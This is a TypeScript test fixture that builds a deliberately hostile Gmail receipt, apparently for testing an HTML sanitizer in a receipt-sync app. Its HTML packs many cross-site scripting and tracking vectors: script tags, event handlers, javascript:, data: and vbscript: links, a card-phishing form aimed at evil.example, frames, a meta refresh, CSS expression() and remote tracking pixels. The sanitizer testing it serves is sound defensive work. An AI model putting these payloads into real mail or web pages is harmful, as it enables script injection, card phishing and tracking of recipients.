// A receipt whose HTML tries everything a hostile sender could: scripts, event handlers, javascript:
// and data: links, a form, frames, objects, a meta refresh, a base href, remote style sheets, CSS that
// loads images, and a remote tracking pixel — around a real receipt with a real total, so a sync takes
// it. Every trick that ran would set window.__pwned or open a dialog; every remote load goes to
// tracker.example or evil.example.
import type { gmail_v1 } from "@googleapis/gmail";

export const HOSTILE_MESSAGE_ID = "hostile-receipt-0001";
export const HOSTILE_SUBJECT = "Your receipt from Hostile Test Shop";
/** Text of the receipt that must survive, visibly, in the inert copy. */
export const HOSTILE_BENIGN_TEXT = ["Thank you for your order", "Espresso grinder", "Order number HT-4242"];
/** Hosts the HTML tries to load from; none may ever be asked for anything. */
export const HOSTILE_HOSTS = ["tracker.example", "evil.example"];

export const HOSTILE_HTML = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://tracker.example/mail.css">
<style>@import url("https://tracker.example/import.css"); body { background: url(https://tracker.example/body.png); }</style>
<script>window.__pwned = "script"; alert("script");</script>
<script src="https://evil.example/remote.js"></script>
</head>
<body onload="window.__pwned='onload';alert('onload')">
<h1 onmouseover="window.__pwned='hover'">Hostile Test Shop</h1>
<p>Thank you for your order. This is your receipt.</p>
<table width="100%" background="https://tracker.example/table.png" style="background-image:url('https://tracker.example/inline.png')">
<tr><td>Order number HT-4242</td><td></td></tr>
<tr><td>Espresso grinder</td><td>$42.00</td></tr>
<tr><td><b>Total</b></td><td><b>$42.00</b></td></tr>
</table>
<p style="color:#334155;background:u\\72l(https://tracker.example/escaped.png)">Paid with card ending 4242.</p>
<div style="width:expression(alert('expression'))">Kept text</div>
<p style="background-image:image-set('https://tracker.example/set.png' 1x)">Questions? Reply to this email.</p>
<img src="https://tracker.example/pixel.gif?open=finance" width="1" height="1" alt="">
<img src="x" onerror="window.__pwned='onerror';alert('onerror')" alt="Shop logo">
<img srcset="https://tracker.example/srcset.png 2x" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=" alt="dot">
<p><a href="javascript:window.__pwned='link';alert('link')">Track your order</a>
<a href="  JaVaScRiPt:alert('mixed case')">Manage</a>
<a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">View online</a>
<a href="vbscript:msgbox(1)">Legacy</a>
<a href="https://hostile-shop.example/orders/4242">Order details</a></p>
<form action="https://evil.example/phish" method="post"><input name="card" value="Card number"><button type="submit" formaction="https://evil.example/b">Confirm your card</button></form>
<svg><script>window.__pwned='svg';alert('svg')</script><foreignObject><p>Inside svg</p></foreignObject><image href="https://tracker.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object.swf"></object>
<embed src="https://evil.example/embed.swf">
<video poster="https://tracker.example/poster.png"><source src="https://tracker.example/video.mp4"></video>
<audio src="https://tracker.example/sound.mp3" autoplay></audio>
</body></html>`;

export const HOSTILE_TEXT = "Hostile Test Shop\nThank you for your order.\nEspresso grinder $42.00\nTotal $42.00\n";

const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64url");

/** The hostile receipt as Gmail serves it (multipart/alternative, text and HTML). */
export function hostileReceiptMessage(receivedAt: Date, id = HOSTILE_MESSAGE_ID): gmail_v1.Schema$Message {
  return {
    id,
    threadId: id,
    labelIds: ["INBOX", "CATEGORY_UPDATES"],
    snippet: "Thank you for your order. This is your receipt.",
    internalDate: String(receivedAt.getTime()),
    sizeEstimate: HOSTILE_HTML.length + HOSTILE_TEXT.length,
    payload: {
      partId: "",
      mimeType: "multipart/alternative",
      filename: "",
      headers: [
        { name: "From", value: "Hostile Test Shop <receipts@hostile-shop.example>" },
        { name: "To", value: "finance@northwind-studio.com" },
        { name: "Subject", value: HOSTILE_SUBJECT },
        { name: "Date", value: receivedAt.toUTCString() },
        { name: "Content-Type", value: 'multipart/alternative; boundary="b"' },
      ],
      body: { size: 0 },
      parts: [
        {
          partId: "0",
          mimeType: "text/plain",
          filename: "",
          headers: [{ name: "Content-Type", value: "text/plain; charset=UTF-8" }],
          body: { size: HOSTILE_TEXT.length, data: b64(HOSTILE_TEXT) },
        },
        {
          partId: "1",
          mimeType: "text/html",
          filename: "",
          headers: [{ name: "Content-Type", value: "text/html; charset=UTF-8" }],
          body: { size: HOSTILE_HTML.length, data: b64(HOSTILE_HTML) },
        },
      ],
    },
  };
}
